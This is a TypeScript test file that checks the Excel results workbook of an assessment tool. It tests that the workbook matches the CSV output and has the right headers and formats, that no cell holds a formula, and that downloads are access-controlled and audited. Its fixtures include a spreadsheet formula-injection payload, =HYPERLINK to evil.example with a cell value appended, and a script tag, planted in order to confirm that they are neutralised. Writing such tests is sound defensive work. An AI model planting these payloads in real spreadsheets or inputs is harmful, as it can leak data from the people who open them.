/**
 * The results workbook on both engines: the small fixture (with formula and script payloads in
 * an agency's name and in a comment) analysed by `kaoping analyze`; the snapshot's workbook read
 * back with exceljs equals every CSV file of the run cell by cell, has both header rows, frozen
 * panes and the designed number formats, and holds no formula. Over HTTP: staff download it
 * (audited), an agency viewer may not even once the snapshot is published, nobody signed out.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { COLUMNS, SHEETS } from '../src/reports/result-headers.js';
import { buildApp } from '../src/server/app.js';
import { publishSnapshot } from '../src/services/results/snapshots.js';
import { snapshotWorkbook } from '../src/services/results/workbook.js';
import { RESULT_TABLES } from '../src/shared/api/result-tables.js';
import { runCli } from './support/cli.js';
import { createTestDb, ENGINES, engineReachable, type TestDb } from './support/databases.js';
import { analyzeCli, small, SMALL_ID, tempFile } from './support/results.js';
import { asSession, auditLog, makeUser, signIn, type Signed } from './support/server.js';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"市丙局")';
const EVIL_COMMENT = '=HYPERLINK("http://evil.example","点我") <script>alert(1)</script> 排队太久';

const readCsv = (file: string): string[][] =>
  parse(fs.readFileSync(file, 'utf8'), { bom: true, relax_column_count: false });

/** The small fixture, agency C renamed to a formula, and a comment carrying payloads. */
async function loadWithPayloads(t: TestDb): Promise<void> {
  const ok = async (args: string[]) => expect((await runCli(t.env, args)).stderr).toBe('');
  await ok(['import', 'config', small('config.json')]);
  const units = fs
    .readFileSync(small('units.csv'), 'utf8')
    .replace('C,市丙局', `C,"${EVIL_NAME.replace(/"/g, '""')}"`);
  await ok(['import', 'units', tempFile('units.csv', units), '--assessment', SMALL_ID]);
  for (const kind of ['responses', 'cases', 'scores'])
    await ok(['import', kind, small(`${kind}.csv`), '--assessment', SMALL_ID]);
  const head =
    'response_id,channel,group,respondent_unit,respondent_key,target_unit,item,value,duration_s,submitted_at';
  const at = '2024-10-03T10:00:00+08:00';
  const rows = [
    `evil1,phone,service,,k-evil1,A,S1,4,200,${at}`,
    `evil1,phone,service,,k-evil1,A,S2,5,200,${at}`,
    `evil1,phone,service,,k-evil1,A,C1,"${EVIL_COMMENT.replace(/"/g, '""')}",200,${at}`,
  ];
  await ok([
    'import',
    'responses',
    tempFile('evil.csv', [head, ...rows].join('\n')),
    '--assessment',
    SMALL_ID,
  ]);
}

async function readWorkbook(buf: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  return wb;
}

/** Data rows (from row 3) of a sheet as cells: numbers, strings, null for empty. */
function sheetRows(ws: ExcelJS.Worksheet, nCols: number): (string | number | null)[][] {
  const out: (string | number | null)[][] = [];
  for (let r = 3; r <= ws.rowCount; r++) {
    const row = ws.getRow(r);
    out.push(
      Array.from({ length: nCols }, (_, j) => {
        const v = row.getCell(j + 1).value;
        return v === undefined || v === null || v === '' ? null : (v as string | number);
      }),
    );
  }
  return out;
}

/** A CSV cell as the workbook holds it: empty → null, a number → that number, text as is. */
function expectedCell(column: string, text: string): string | number | null {
  if (text === '') return null;
  return COLUMNS[column]!.format === 'text' ? text : Number(text);
}

const FORMATS: Record<string, string> = { score: '0.00', rate: '0.00%', count: '0', weight: '0.0000' };

for (const engine of ENGINES) {
  describe.skipIf(!(await engineReachable(engine)))(`results workbook on ${engine}`, () => {
    let t: TestDb;
    let out: string;
    let sid: number;
    let wb: ExcelJS.Workbook;
    const ctx = () => ({ handle: t.handle, now: () => new Date(), actor: 'test' });

    beforeAll(async () => {
      t = await createTestDb(engine);
      out = fs.mkdtempSync(path.join(os.tmpdir(), 'kaoping-xlsx-'));
      await loadWithPayloads(t);
      sid = await analyzeCli(t, out, ['--bootstrap', '30', '--seed', '3']);
      const made = await snapshotWorkbook(ctx(), SMALL_ID, sid);
      const file = path.join(out, 'results.xlsx');
      const stream = fs.createWriteStream(file);
      const closed = new Promise<void>((r) => stream.on('close', () => r()));
      await made.write(stream);
      await closed;
      wb = await readWorkbook(fs.readFileSync(file));
    });
    afterAll(async () => {
      await t?.dispose();
      fs.rmSync(out, { recursive: true, force: true });
    });

    it('has one sheet per result table in reading order, then 说明', () => {
      expect(wb.worksheets.map((w) => w.name)).toEqual([
        '单位结果',
        '群体得分',
        '题目得分',
        '排名区间',
        '关键词',
        '电话访问率',
        '汇总',
        '有效性',
        '说明',
      ]);
      expect(SHEETS.map((s) => s.table).sort()).toEqual([...RESULT_TABLES].sort());
    });

    it('equals every CSV file of the run cell by cell, under a Chinese and the English header', () => {
      for (const { table, sheet } of SHEETS) {
        const ws = wb.getWorksheet(sheet)!;
        const [header, ...lines] = readCsv(path.join(out, `${table}.csv`));
        expect(lines.length, table).toBeGreaterThan(0);
        const n = header!.length;
        const zh = Array.from({ length: n }, (_, j) => ws.getRow(1).getCell(j + 1).value);
        const en = Array.from({ length: n }, (_, j) => ws.getRow(2).getCell(j + 1).value);
        expect(en, table).toEqual(header);
        expect(zh, table).toEqual(header!.map((c) => COLUMNS[c]!.zh));
        expect(ws.getRow(2).getCell(n + 1).value, table).toBeNull();
        const expected = lines.map((l) => l.map((v, j) => expectedCell(header![j]!, v)));
        expect(sheetRows(ws, n), table).toEqual(expected);
      }
      const ur = wb.getWorksheet('单位结果')!;
      expect(ur.getRow(1).values).toContain('综合得分');
      expect(ur.getRow(1).values).toContain('总排名');
    });

    it('freezes both header rows and the first column', () => {
      for (const { sheet } of SHEETS) {
        const v = wb.getWorksheet(sheet)!.views[0] as { state: string; xSplit: number; ySplit: number };
        expect(v.state, sheet).toBe('frozen');
        expect(v.ySplit, sheet).toBe(2);
        expect(v.xSplit, sheet).toBe(1);
      }
    });

    it('formats scores with two decimals, rates as percentages, counts as integers', () => {
      for (const { table, sheet } of SHEETS) {
        const ws = wb.getWorksheet(sheet)!;
        const header = ws.getRow(2).values as (string | undefined)[];
        for (let r = 3; r <= ws.rowCount; r++)
          for (let j = 1; j < header.length; j++) {
            const cell = ws.getRow(r).getCell(j);
            if (typeof cell.value !== 'number') continue;
            const col = header[j]!;
            let format = COLUMNS[col]!.format as string;
            if (table === 'summary') {
              const metric = ws.getRow(r).getCell(1).value as string;
              format = metric.endsWith('_rate') ? 'rate' : metric.endsWith('_mean') ? 'score' : 'count';
            }
            expect(cell.numFmt, `${table}.${col}`).toBe(FORMATS[format]);
          }
      }
      const ur = wb.getWorksheet('单位结果')!;
      const col = (name: string) => (ur.getRow(2).values as string[]).indexOf(name);
      expect(ur.getRow(3).getCell(col('composite')).numFmt).toBe('0.00');
      expect(ur.getRow(3).getCell(col('composite_rate')).numFmt).toBe('0.00%');
      expect(ur.getRow(3).getCell(col('rank_overall')).numFmt).toBe('0');
      // fitted widths: the Chinese unit names are wider than the codes
      expect(ur.getColumn(col('unit_name')).width!).toBeGreaterThan(ur.getColumn(col('unit_code')).width!);
    });

    it('holds no formula: payloads are neutralised text, scripts plain text', () => {
      let texts = 0;
      for (const ws of wb.worksheets)
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
            expect(cell.formula, `${ws.name}!${cell.address}`).toBeUndefined();
            if (typeof cell.value === 'string') {
              texts++;
              expect(cell.value, `${ws.name}!${cell.address}`).not.toMatch(/^[=+\-@\t\r]/);
            }
          }),
        );
      expect(texts).toBeGreaterThan(0);
      const names = sheetRows(wb.getWorksheet('单位结果')!, 2).map((r) => r[1]);
      expect(names).toContain(`'${EVIL_NAME}`);
      const keywords = sheetRows(wb.getWorksheet('关键词')!, 2).map((r) => String(r[1]));
      expect(keywords.length).toBeGreaterThan(0);
    });

    it('names the snapshot and the codes on 说明', () => {
      const ws = wb.getWorksheet('说明')!;
      const cells: unknown[] = [];
      ws.eachRow((r) => r.eachCell((c) => cells.push(c.value)));
      expect(cells).toContain('服务对象');
      expect(cells).toContain('办事效率');
      expect(cells).toContain(sid);
      expect(cells).toContain('unit_results.csv');
    });

    describe('over HTTP', () => {
      let app: FastifyInstance;
      const who: Record<string, Signed> = {};
      const url = () => `/api/v1/assessments/${SMALL_ID}/snapshots/${sid}/results.xlsx`;
      beforeAll(async () => {
        await makeUser(t, 'adm', 'admin');
        await makeUser(t, 'viewA', 'agency', { unit: 'A' });
        app = buildApp({ handle: t.handle, signInRateLimit: { max: 1000, timeWindowMs: 60_000 } });
        await app.ready();
        for (const n of ['adm', 'viewA']) who[n] = await signIn(app, n);
      });
      afterAll(async () => app?.close());

      it('sends staff the workbook, audited as a view of results', async () => {
        const r = await app.inject({ method: 'GET', url: url(), headers: asSession(who.adm!) });
        expect(r.statusCode, r.body).toBe(200);
        expect(r.headers['content-type']).toBe(XLSX);
        expect(String(r.headers['content-disposition'])).toMatch(
          /^attachment; filename="results-t-2024-\d+\.xlsx"/,
        );
        const got = await readWorkbook(r.rawPayload);
        expect(got.worksheets.map((w) => w.name)).toEqual(wb.worksheets.map((w) => w.name));
        const a = sheetRows(got.getWorksheet('单位结果')!, 13);
        expect(a).toEqual(sheetRows(wb.getWorksheet('单位结果')!, 13));
        const views = (await auditLog(t)).filter((e) => e.action === 'results.view' && e.actor === 'adm');
        expect(views.at(-1)?.details).toEqual({ snapshotId: sid, workbook: true });
      });

      it('refuses an agency viewer (even once published) and nobody signed in', async () => {
        await publishSnapshot(ctx(), SMALL_ID, sid);
        const viewer = await app.inject({ method: 'GET', url: url(), headers: asSession(who.viewA!) });
        expect(viewer.statusCode).toBe(403);
        const none = await app.inject({ method: 'GET', url: url() });
        expect(none.statusCode).toBe(401);
        const missing = await app.inject({
          method: 'GET',
          url: `/api/v1/assessments/${SMALL_ID}/snapshots/999999/results.xlsx`,
          headers: asSession(who.adm!),
        });
        expect(missing.statusCode).toBe(404);
      });
    });
  });
}
